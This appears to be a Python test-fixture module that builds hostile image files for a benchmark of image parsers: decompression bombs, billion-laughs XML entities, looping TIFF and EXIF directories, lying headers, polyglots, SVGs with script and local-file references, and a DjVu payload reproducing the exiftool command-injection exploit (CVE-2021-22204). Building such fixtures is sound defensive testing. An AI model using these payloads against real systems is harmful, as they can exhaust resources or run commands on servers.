"""Pictures made to do harm: that unfold to gigabytes, never end, lie, or are two things at once.

Each maker gives the bytes of one file, made anew on every run; none is kept, and all
show drawn shapes. `PICTURES` names them as they would lie in a folder.

Caller: `benchmarks.hostile_files`.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from itertools import pairwise
from typing import Any

import numpy as np
from PIL import Image, ImageDraw, TiffImagePlugin

Make = Callable[[], bytes]
PNG = b"\x89PNG\r\n\x1a\n"
HUGE = 50_000
"""Pixels a side of what claims to be huge."""


@cache
def scene(width: int = 800, height: int = 600, seed: int = 1) -> Image.Image:
    """Draw coarse shapes over a slope of light, with a little grain."""
    rng = np.random.default_rng(seed)
    slope = np.linspace(60, 190, height)[:, None, None] * np.array([0.8, 0.9, 1.0])
    light = np.repeat(slope, width, 1) + rng.normal(0, 4, (height, width, 3))
    picture = Image.fromarray(np.clip(light, 0, 255).astype(np.uint8))
    pen = ImageDraw.Draw(picture)
    for _ in range(60):
        x, y = int(rng.integers(0, width)), int(rng.integers(0, height))
        wide, high = (int(side) for side in rng.integers(8, height // 4, 2))
        pen.ellipse((x, y, x + wide, y + high), tuple(int(one) for one in rng.integers(0, 256, 3)))
    return picture


def saved(picture: Image.Image, kind: str, **options: Any) -> bytes:
    """Give the bytes of a picture saved in a format."""
    stream = io.BytesIO()
    picture.save(stream, kind, **options)
    return stream.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    """Give one chunk of a PNG."""
    check = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)


def png_with(kind: bytes, content: bytes) -> bytes:
    """Give a sound PNG with one more chunk behind its head."""
    png = saved(scene(), "PNG")
    return png[:33] + chunk(kind, content) + png[33:]


def png_plain(width: int, height: int, colour: int = 0) -> bytes:
    """Give a whole PNG of one grey, however large, unfolded by no one here."""
    packer = zlib.compressobj(9)
    row = b"\0" + bytes([colour]) * width
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return PNG + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def png_claiming(width: int, height: int) -> bytes:
    """Give a PNG that says it is huge, with a megabyte of data behind it."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(10**9 // 8), 9)
    return PNG + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def folded(length: int) -> bytes:
    """Give so many zeros, folded."""
    packer = zlib.compressobj(9)
    part = bytes(2**20)
    parts = [packer.compress(part) for _ in range(length // len(part))]
    return b"".join(parts) + packer.flush()


def png_of_empty_parts() -> bytes:
    """Give a PNG with a hundred thousand empty parts."""
    png = saved(scene(), "PNG")
    at = png.index(b"IDAT") - 4
    return png[:at] + chunk(b"IDAT", b"") * 100_000 + png[at:]


def animated_black_png() -> bytes:
    """Give an animation of 60 black frames of 36 megapixels each."""
    side = 6_000
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    row = zlib.compress(bytes((side + 1) * side), 9)
    parts = [PNG, chunk(b"IHDR", head), chunk(b"acTL", struct.pack(">II", 60, 0))]
    number = 0
    for frame in range(60):
        control = struct.pack(">IIIIIHHBB", number, side, side, 0, 0, 1, 25, 0, 0)
        parts.append(chunk(b"fcTL", control))
        number += 1
        if frame:
            parts.append(chunk(b"fdAT", struct.pack(">I", number) + row))
            number += 1
        else:
            parts.append(chunk(b"IDAT", row))
    return b"".join([*parts, chunk(b"IEND", b"")])


def gif_of(frames: int, side: int = 400, *, ended: bool = True) -> bytes:
    """Give a GIF of so many frames of one pixel each on a large canvas."""
    start = b"GIF89a" + struct.pack("<HHBBB", side, side, 0x80, 0, 0) + bytes(6)
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return start + frame * frames + (b";" if ended else b"")


def gif_of_folded_frames() -> bytes:
    """Give a GIF of 40 black frames of 64 megapixels, each saved in few bytes."""
    side = 8_000
    black = saved(Image.new("P", (side, side)), "GIF")
    at = black.index(b"\x2c")
    return black[:at] + black[at:-1] * 40 + b";"


def webp_of(frames: int) -> bytes:
    """Give an animated WebP of so many plain frames."""
    first, *more = (Image.new("RGB", (64, 64), (at % 250, 0, 0)) for at in range(frames))
    return saved(first, "WEBP", save_all=True, append_images=more, duration=1, lossless=True)


def webp_that_claims() -> bytes:
    """Give a WebP whose canvas is said to have 16,777,216 pixels a side."""
    webp = bytearray(webp_of(2))
    at = webp.index(b"VP8X") + 12
    webp[at : at + 6] = b"\xff" * 6
    return bytes(webp)


def jpeg_with(*segments: tuple[int, bytes]) -> bytes:
    """Give a sound JPEG with more segments behind its start."""
    jpeg = saved(scene(), "JPEG", quality=88)
    more = b"".join(
        struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content
        for marker, content in segments
    )
    return jpeg[:2] + more + jpeg[2:]


def jpeg_claiming(width: int, height: int) -> bytes:
    """Give a JPEG whose head says that it is huge."""
    jpeg = bytearray(saved(scene(), "JPEG"))
    at = jpeg.index(b"\xff\xc0") + 5
    jpeg[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(jpeg)


def jpeg_that_goes_over(times: int) -> bytes:
    """Give a progressive JPEG of 16 megapixels whose last scan stands in it again and again."""
    jpeg = saved(Image.new("L", (4_000, 4_000), 90), "JPEG", progressive=True)
    at = jpeg.rindex(b"\xff\xda")
    return jpeg[:at] + jpeg[at:-2] * times + b"\xff\xd9"


def exif_of(tags: dict[int, Any], place: dict[int, Any] | None = None) -> bytes:
    """Give EXIF with these tags, and those of a place."""
    exif = Image.Exif()
    exif.update(tags)
    if place:
        exif.get_ifd(0x8825).update(place)
    return exif.tobytes()


def jpeg_that_lies() -> bytes:
    """Give a JPEG whose EXIF cannot be: a month 13, a latitude of 900 degrees, a turn of 99."""
    parts = TiffImagePlugin.IFDRational
    lies = exif_of(
        {0x0112: 99, 0x0132: "9999:13:45 25:61:61", 0x010F: "A\x1b[31mMaker\n" * 400, 0x0131: "\0"},
        {1: "Q", 2: (parts(900, 1), parts(1, 0), parts(0, 0)), 3: "E", 4: (parts(1, 0),) * 3},
    )
    return saved(scene(), "JPEG", exif=lies)


def exif_loop() -> bytes:
    """Give EXIF whose directories lead into one another."""
    entry = struct.pack("<HHII", 0x8769, 4, 1, 8)
    return b"Exif\0\0II*\0" + struct.pack("<IH", 8, 1) + entry + struct.pack("<I", 8)


def exif_with_thumbnail(small: bytes) -> bytes:
    """Give EXIF with a thumbnail in it."""
    start = 8 + 6 + 2 + 3 * 12 + 4
    first = struct.pack("<HI", 0, 14)
    tags = [(0x0103, 3, 1, 6), (0x0201, 4, 1, start), (0x0202, 4, 1, len(small))]
    second = b"".join(struct.pack("<HHII", *tag) for tag in tags) + bytes(4)
    directory = b"II*\0" + struct.pack("<I", 8) + first + struct.pack("<H", 3) + second
    return b"Exif\0\0" + directory + small


def xmp(words: str) -> bytes:
    """Give words as the XMP of a JPEG."""
    return b"http://ns.adobe.com/xap/1.0/\0" + words.encode()


def laughs(kind: str) -> str:
    """Define ten entities of ten entities each, nine deep."""
    names = "abcdefghij"
    more = "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(names))
    return f'<!DOCTYPE {kind} [<!ENTITY a "ha">{more}]>'


def profile_with_tables() -> bytes:
    """Give an ICC profile whose table says that it has 255 points in each of 15 directions."""
    table = b"mft2" + bytes(4) + bytes([15, 3, 255, 0]) + bytes(300)
    tags = struct.pack(">I", 1) + b"A2B0" + struct.pack(">II", 144, len(table))
    head = bytearray(128)
    head[0:4] = struct.pack(">I", 128 + len(tags) + len(table))
    head[8:24] = b"\x04\x30\x00\x00prtrFCLRLab "
    head[36:40] = b"acsp"
    return bytes(head) + tags + table


def profile_in_parts() -> bytes:
    """Give a JPEG with 255 parts of a profile, all said to be the first of 255."""
    part = b"ICC_PROFILE\0" + bytes([1, 255]) + bytes(65_000)
    return jpeg_with(*[(0xE2, part)] * 255)


def tiff_of(tags: list[tuple[int, int, int, int]], more: bytes = b"") -> bytes:
    """Give a little-endian TIFF of one directory (tag, type, count, value) and more behind it."""
    body = b"".join(struct.pack("<HHII", *tag) for tag in sorted(tags))
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + body + bytes(4) + more


def tiff_bomb() -> bytes:
    """Give a TIFF of 50,000 x 50,000 pixels in one folded strip."""
    data = folded(2**28)
    at = 8 + 2 + 9 * 12 + 4
    tags = [
        (256, 4, 1, HUGE), (257, 4, 1, HUGE), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1),
        (273, 4, 1, at), (277, 3, 1, 1), (278, 4, 1, HUGE), (279, 4, 1, len(data)),
    ]  # fmt: skip
    return tiff_of(tags, data)


def tiff_of_inks() -> bytes:
    """Give a TIFF of 16-bit CMYK, 64 x 64."""
    data = np.random.default_rng(1).integers(0, 65_536, (64, 64, 4)).astype("<u2").tobytes()
    at = 8 + 2 + 9 * 12 + 4
    tags = [
        (256, 4, 1, 64), (257, 4, 1, 64), (258, 3, 4, at), (259, 3, 1, 1), (262, 3, 1, 5),
        (273, 4, 1, at + 8), (277, 3, 1, 4), (278, 4, 1, 64), (279, 4, 1, len(data)),
    ]  # fmt: skip
    return tiff_of(tags, struct.pack("<4H", 16, 16, 16, 16) + data)


def tiff_that_loops() -> bytes:
    """Give a TIFF whose list of pages leads back to its first."""
    tiff = saved(scene(), "TIFF")
    (first,) = struct.unpack_from("<I", tiff, 4)
    (count,) = struct.unpack_from("<H", tiff, first)
    at = first + 2 + 12 * count
    return tiff[:at] + struct.pack("<I", first) + tiff[at + 4 :]


def tiff_with_many_pages() -> bytes:
    """Give a TIFF of 60,000 pages, all of them the same strip."""
    page = [(256, 4, 1, 8), (257, 4, 1, 8), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
            (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, 8), (279, 4, 1, 64)]  # fmt: skip
    body = b"".join(struct.pack("<HHII", *tag) for tag in page)
    parts, at = [bytes(64)], 72
    for _ in range(60_000):
        at += 2 + len(body) + 4
        parts.append(struct.pack("<H", len(page)) + body + struct.pack("<I", at))
    return b"II*\0" + struct.pack("<I", 72) + b"".join(parts)


def bmp_claiming(width: int, height: int, folding: int = 0) -> bytes:
    """Give a BMP whose head says anything."""
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, folding, 0, 0, 0, 256, 0)
    return b"BM" + struct.pack("<IHHI", 1_200, 0, 0, 1_078) + head + bytes(1_024) + bytes(122)


def heif_claiming() -> bytes:
    """Give an AVIF whose size is said to be 50,000 x 50,000."""
    avif = bytearray(saved(scene(), "AVIF"))
    at = avif.index(b"ispe") + 8
    avif[at : at + 8] = struct.pack(">II", HUGE, HUGE)
    return bytes(avif)


def heic() -> bytes:
    """Give a sound HEIC."""
    import pillow_heif

    stream = io.BytesIO()
    pillow_heif.from_pillow(scene()).save(stream)
    return stream.getvalue()


def heic_with_long_boxes() -> bytes:
    """Give a HEIC whose list of items is said to be four gigabytes long."""
    made = bytearray(heic())
    at = made.index(b"iloc") - 4
    made[at : at + 4] = b"\xff\xff\xff\xff"
    return bytes(made)


def svg(body: str, *, size: str = 'width="400" height="300"', before: str = "") -> bytes:
    """Give a drawing."""
    space = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"{before}<svg {space} {size}>{body}</svg>".encode()


def svg_of_uses() -> bytes:
    """Give a drawing of ten uses of ten uses, eight deep."""
    groups = "".join(
        f'<g id="g{at + 1}">{f"""<use xlink:href="#g{at}"/>""" * 10}</g>' for at in range(8)
    )
    return svg(f'<defs><rect id="g0" width="1" height="1"/>{groups}</defs><use href="#g8"/>')


def svg_of_filters() -> bytes:
    """Give a drawing whose filters are as costly as they can be said in few bytes."""
    turbulence = '<feTurbulence baseFrequency="0.9" numOctaves="900000"/>'
    blur = '<feGaussianBlur stdDeviation="100000"/>'
    light = '<feMorphology operator="dilate" radius="4000"/>'
    part = f'<filter id="f" width="900%" height="900%">{(turbulence + blur + light) * 40}</filter>'
    rects = '<rect width="400" height="300" filter="url(#f)"/>' * 40
    return svg(f"<defs>{part}</defs>{rects}", size='width="4000" height="4000"')


def svg_of_patterns() -> bytes:
    """Give a drawing of patterns that hold a thousand times the next, six deep."""
    parts = "".join(
        f'<pattern id="p{at}" width="0.03" height="0.03">'
        f'<rect width="400" height="300" fill="url(#p{at + 1})"/></pattern>'
        for at in range(6)
    )
    body = f'<defs>{parts}</defs><rect width="400" height="300" fill="url(#p0)"/>'
    return svg(body, size='width="4000" height="4000"')


def svg_with_bomb() -> bytes:
    """Give a drawing that shows a PNG of 289 megapixels, folded into its own code."""
    import base64

    code = base64.b64encode(png_plain(17_000, 17_000)).decode()
    return svg(f'<image width="400" height="300" href="data:image/png;base64,{code}"/>')


def zip_of(files: dict[str, bytes]) -> bytes:
    """Give a ZIP archive of these files."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in files.items():
            package.writestr(name, content)
    return stream.getvalue()


def program_in_a_name() -> bytes:
    """Give a DjVu file whose note once made exiftool run a program (CVE-2021-22204)."""
    note = b'(metadata "\\c${system(q(touch /tmp/ran-from-a-picture))};")'
    form = b"DJVUINFO" + struct.pack(">I", 10) + bytes(10) + b"ANTa" + struct.pack(">I", len(note))
    form += note + b"\0" * (len(note) % 2)
    return b"AT&TFORM" + struct.pack(">I", len(form)) + form


def jumbf_of_noise() -> bytes:
    """Give a JPEG with what looks like content credentials, and is noise."""
    noise = np.random.default_rng(1).bytes(60_000)
    box = struct.pack(">I", len(noise) + 8) + b"jumb" + noise
    return jpeg_with((0xEB, b"JP\0\1" + struct.pack(">I", 1) + box[:65_000]))


PICTURES: dict[str, Make] = {
    "huge.png": lambda: png_claiming(HUGE, HUGE),
    "plain-289-megapixels.png": lambda: png_plain(17_000, 17_000),
    "one-pixel-high.png": lambda: png_plain(100_000_000, 1, 200),
    "words-of-a-gigabyte.png": lambda: png_with(b"zTXt", b"Comment\0\0" + folded(2**30)),
    "words-of-30-megabytes.png": lambda: png_with(b"tEXt", b"Comment\0" + b"x" * 30_000_000),
    "profile-of-a-gigabyte.png": lambda: png_with(b"iCCP", b"p\0\0" + folded(2**30)),
    "profile-with-tables.png": lambda: png_with(
        b"iCCP", b"p\0\0" + zlib.compress(profile_with_tables())
    ),
    "exif-of-noise.png": lambda: png_with(b"eXIf", b"II*\0" + b"\xff" * 40_000),
    "cut-off.png": lambda: saved(scene(), "PNG")[:200_000],
    "empty-parts.png": png_of_empty_parts,
    "animated-black.png": animated_black_png,
    "endless.gif": lambda: gif_of(1_500_000),
    "without-an-end.gif": lambda: gif_of(20, ended=False)[:-3] + b"\xff" * 3,
    "canvas-of-4-gigapixels.gif": lambda: gif_of(3, 65_535),
    "folded-frames.gif": gif_of_folded_frames,
    "many-frames.webp": lambda: webp_of(3_000),
    "huge-canvas.webp": webp_that_claims,
    "cut-off.webp": lambda: saved(scene(), "WEBP")[:5_000],
    "large-comments.jpg": lambda: jpeg_with(*[(0xFE, b"c" * 65_500)] * 400),
    "64000-comments.jpg": lambda: jpeg_with(*[(0xFE, b"c")] * 64_000),
    "huge.jpg": lambda: jpeg_claiming(65_500, 65_500),
    "goes-over-and-over.jpg": lambda: jpeg_that_goes_over(3_000),
    "cut-off.jpg": lambda: saved(scene(), "JPEG")[:9_000],
    "lies.jpg": jpeg_that_lies,
    "exif-loop.jpg": lambda: jpeg_with((0xE1, exif_loop())),
    "thumbnail-bomb.jpg": lambda: jpeg_with(
        (0xE1, exif_with_thumbnail(jpeg_claiming(65_500, 65_500)[:60_000]))
    ),
    "xmp-entities.jpg": lambda: jpeg_with((0xE1, xmp(laughs("x") + "<x>&j;</x>"))),
    "profile-in-parts.jpg": profile_in_parts,
    "credentials-of-noise.jpg": jumbf_of_noise,
    "picture-and-archive.jpg": lambda: saved(scene(), "JPEG") + zip_of({"a.txt": b"said"}),
    "picture-and-page.jpg": lambda: jpeg_with((0xFE, b"<html><script>alert(1)</script></html>")),
    "page-and-picture.pdf": lambda: jpeg_with((0xFE, b"%PDF-1.7\n1 0 obj<<>>endobj\n")),
    "inks.jpg": lambda: saved(scene().convert("CMYK"), "JPEG"),
    "inks-16-bit.tiff": tiff_of_inks,
    "loop.tiff": tiff_that_loops,
    "folded.tiff": tiff_bomb,
    "pages.tiff": tiff_with_many_pages,
    "upside-down.bmp": lambda: bmp_claiming(40_000, -(2**31)),
    "run-lengths.bmp": lambda: bmp_claiming(30_000, 9_000, 1),
    "huge.avif": heif_claiming,
    "cut-off.heic": lambda: heic()[:9_000],
    "long-boxes.heic": heic_with_long_boxes,
    "entities.svg": lambda: svg("<text>&j;</text>", before=laughs("svg")),
    "uses.svg": svg_of_uses,
    "filters.svg": svg_of_filters,
    "patterns.svg": svg_of_patterns,
    "bomb-within.svg": svg_with_bomb,
    "script.svg": lambda: svg("<script>fetch('http://example.org')</script>"),
    "calls-out.svg": lambda: svg('<image href="file:///etc/hostname" width="9" height="9"/>'),
    "huge.svg": lambda: svg("<g/>", size='width="1e30" height="1e30"'),
    "deep.svg": lambda: svg("<g>" * 100_000 + "</g>" * 100_000),
    "empty.jpg": lambda: b"",
    "noise.png": lambda: np.random.default_rng(2).bytes(40_000),
    "program.jpg": lambda: b"\x7fELF" + np.random.default_rng(3).bytes(9_000),
    "words.jpg": lambda: b"The mayor said that four people were hurt.\n",
    "runs-a-program.jpg": program_in_a_name,
    "film.jpg": lambda: gif_of(3)[:6] + b"ftypmp42" + bytes(900),
    "printer-script.jpg": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n",
}  # fmt: skip
